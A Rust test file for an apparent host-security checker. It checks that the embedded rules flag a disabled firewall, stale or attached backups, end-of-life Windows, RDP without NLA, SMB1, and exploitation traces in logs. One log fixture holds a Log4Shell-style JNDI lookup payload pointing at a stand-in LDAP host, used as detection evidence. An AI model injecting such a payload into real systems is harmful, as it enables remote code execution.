//! The embedded host and log rules against fact fixtures.

use praxcheck_advisories::{AdvisorySet, Fact, FactValue, Facts, RuleOutcome};
use praxcheck_model::Severity;

fn facts(list: &[(&str, FactValue)]) -> Facts {
    list.iter()
        .map(|(k, v)| Fact::new(*k, v.clone(), "fixture"))
        .collect()
}

fn outcome(set: &AdvisorySet, id: &str, f: &Facts) -> RuleOutcome {
    set.rules()
        .iter()
        .find(|r| r.id == id)
        .unwrap_or_else(|| panic!("no rule {id}"))
        .evaluate(f)
}

fn fails(set: &AdvisorySet, id: &str, f: &Facts) -> Severity {
    match outcome(set, id, f) {
        RuleOutcome::Failed(x) => x.severity,
        other => panic!("{id}: expected a finding, got {other:?}"),
    }
}

#[test]
fn embedded_rules_are_valid_and_cover_the_named_conditions() {
    let set = AdvisorySet::embedded().unwrap();
    let ids: Vec<&str> = set.rules().iter().map(|r| r.id.as_str()).collect();
    for want in [
        "PRAX-HOST-FIREWALL-OFF",
        "PRAX-HOST-BACKUP-NONE",
        "PRAX-HOST-BACKUP-STALE",
        "PRAX-HOST-BACKUP-ATTACHED",
        "PRAX-HOST-OS-EOL",
        "PRAX-HOST-RDP-NO-NLA",
        "PRAX-HOST-SMB1",
        "PRAX-LOG-LOOKUP-EXECUTED",
        "PRAX-LOG-PAYLOAD-SEEN",
    ] {
        assert!(ids.contains(&want), "missing {want}");
    }
    for r in set.rules() {
        assert!(!r.kbv.is_empty(), "{} has no KBV mapping", r.id);
        assert!(r.effort.is_some(), "{} has no effort", r.id);
    }
}

#[test]
fn host_rules_on_a_badly_kept_windows_pc() {
    let set = AdvisorySet::embedded().unwrap();
    let f = facts(&[
        ("os.family", FactValue::Text("windows".into())),
        ("firewall.enabled", FactValue::Bool(false)),
        ("backup.found", FactValue::Bool(true)),
        ("backup.newest_age_days", FactValue::Int(12)),
        ("backup.newest_target_attached_now", FactValue::Bool(true)),
        ("os.past_end_of_life", FactValue::Bool(true)),
        ("remote.rdp.enabled", FactValue::Bool(true)),
        ("remote.rdp.nla", FactValue::Bool(false)),
        ("remote.smb1.enabled", FactValue::Bool(true)),
    ]);
    assert_eq!(fails(&set, "PRAX-HOST-FIREWALL-OFF", &f), Severity::High);
    assert_eq!(fails(&set, "PRAX-HOST-BACKUP-STALE", &f), Severity::High);
    assert_eq!(fails(&set, "PRAX-HOST-BACKUP-ATTACHED", &f), Severity::High);
    assert_eq!(fails(&set, "PRAX-HOST-OS-EOL", &f), Severity::High);
    assert_eq!(fails(&set, "PRAX-HOST-RDP-NO-NLA", &f), Severity::High);
    assert_eq!(fails(&set, "PRAX-HOST-SMB1", &f), Severity::High);
    assert_eq!(
        outcome(&set, "PRAX-HOST-BACKUP-NONE", &f),
        RuleOutcome::Passed
    );
    assert_eq!(
        outcome(&set, "PRAX-HOST-BACKUP-NOT-DAILY", &f),
        RuleOutcome::Passed
    );
    // Not collected here: not checked, never passed.
    assert!(matches!(
        outcome(&set, "PRAX-HOST-SCREENLOCK", &f),
        RuleOutcome::NotChecked { .. }
    ));
    if let RuleOutcome::Failed(x) = outcome(&set, "PRAX-HOST-BACKUP-STALE", &f) {
        assert!(x.explanation.de.contains("12 Tage"), "{}", x.explanation.de);
    }
}

#[test]
fn no_backup_is_critical_and_windows_rules_do_not_apply_on_linux() {
    let set = AdvisorySet::embedded().unwrap();
    let f = facts(&[
        ("os.family", FactValue::Text("linux".into())),
        ("backup.found", FactValue::Bool(false)),
        ("remote.rdp.enabled", FactValue::Bool(true)),
        ("remote.rdp.nla", FactValue::Bool(false)),
    ]);
    assert_eq!(fails(&set, "PRAX-HOST-BACKUP-NONE", &f), Severity::Critical);
    assert_eq!(
        outcome(&set, "PRAX-HOST-RDP-NO-NLA", &f),
        RuleOutcome::NotApplicable
    );
}

#[test]
fn log_evidence_levels_map_to_severities() {
    let set = AdvisorySet::embedded().unwrap();
    let mut f = facts(&[("log.scanned", FactValue::Bool(true))]);
    // Logs read, nothing found: passed, not "not checked".
    assert_eq!(
        outcome(&set, "PRAX-LOG-LOOKUP-EXECUTED", &f),
        RuleOutcome::Passed
    );
    // Logs not read: not checked.
    assert!(matches!(
        outcome(&set, "PRAX-LOG-PAYLOAD-SEEN", &Facts::new()),
        RuleOutcome::NotChecked { .. }
    ));
    for (level, line) in [("payload_seen", 17), ("payload_seen", 90)] {
        let mut fact = Fact::new("log.evidence", FactValue::Text(level.into()), "logs");
        fact.detail = Some(format!("line {line}: ${{jndi:ldap://203.0.113.9:1389/a}}"));
        f.push(fact);
    }
    assert_eq!(fails(&set, "PRAX-LOG-PAYLOAD-SEEN", &f), Severity::High);
    assert_eq!(
        outcome(&set, "PRAX-LOG-LOOKUP-EXECUTED", &f),
        RuleOutcome::Passed
    );
    f.push(Fact::new(
        "log.evidence",
        FactValue::Text("lookup_executed".into()),
        "logs",
    ));
    match outcome(&set, "PRAX-LOG-LOOKUP-EXECUTED", &f) {
        RuleOutcome::Failed(x) => {
            assert_eq!(x.severity, Severity::Critical);
            assert!(x.explanation.de.starts_with("1 "), "{}", x.explanation.de);
        }
        other => panic!("{other:?}"),
    }
    if let RuleOutcome::Failed(x) = outcome(&set, "PRAX-LOG-PAYLOAD-SEEN", &f) {
        assert_eq!(x.evidence.len(), 2);
        assert!(x.evidence[0].detail.contains("line 17"));
    }
}
